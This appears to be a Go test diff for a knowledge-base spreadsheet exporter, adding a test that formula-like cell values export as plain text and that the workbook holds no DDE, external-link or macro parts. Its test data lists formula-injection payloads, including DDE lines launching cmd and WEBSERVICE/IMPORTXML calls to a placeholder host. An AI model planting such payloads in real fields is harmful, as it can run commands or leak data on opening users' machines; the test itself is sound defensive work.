@@ -1,6 +1,7 @@
 package sheet_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
 	"fmt"
@@ -64,6 +65,45 @@ func TestWhateverIsExportedImportsUnchanged(t *testing.T) {
 		}
 		unchanged(t, entries)
 	})
+}
+
+// KB-05: what spreadsheets run, or have run, when a cell begins with it, in every field
+// that a person can fill: a workbook has it as text, and it imports as it was.
+func TestWhatASpreadsheetCouldRunIsExportedAsText(t *testing.T) {
+	var begins []string
+	for _, sign := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\"=", "'=", ";=", ",=", "|=", " ="} {
+		begins = append(begins, sign+"1+1")
+	}
+	begins = append(begins,
+		`=HYPERLINK("https://example.org/"&A1,"bấm vào đây")`, `=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
+		`=DDE("cmd";"/C calc";"x")`, `=WEBSERVICE("https://example.org")`, `=IMPORTXML("https://example.org";"//a")`, `{=1+1}`,
+		`https://example.org/a?b=1`, `[đọc](https://example.org)`, "một\n=1+1\n+2",
+	)
+	var entries []kb.Entry
+	for i, text := range begins {
+		e := entry(kb.EntryID(fmt.Sprint("E", i)), fmt.Sprint("Câu số ", i, ": ", text), "Đáp: "+text)
+		e.Variants, e.Source = []string{fmt.Sprint("cách ", i, " ", text)}, "Theo "+text
+		bare := entry(kb.EntryID(fmt.Sprint("B", i)), text+fmt.Sprint(" câu ", i), text)
+		bare.Variants, bare.Source = []string{text + fmt.Sprint(" hay ", i)}, text
+		entries = append(entries, e, bare)
+	}
+	unchanged(t, entries)
+
+	var file bytes.Buffer
+	if err := sheet.Write(&file, entries, names()); err != nil {
+		t.Fatal(err)
+	}
+	parts, err := zip.NewReader(bytes.NewReader(file.Bytes()), int64(file.Len()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, part := range parts.File {
+		for _, runs := range []string{"externalLink", "connections", "ddeLink", "vbaProject", "queryTable"} {
+			if strings.Contains(part.Name, runs) {
+				t.Errorf("the workbook holds %s, which a spreadsheet asks about or runs", part.Name)
+			}
+		}
+	}
 }
 
 func TestManyLongWordingsAreExportedInSeveralColumns(t *testing.T) {
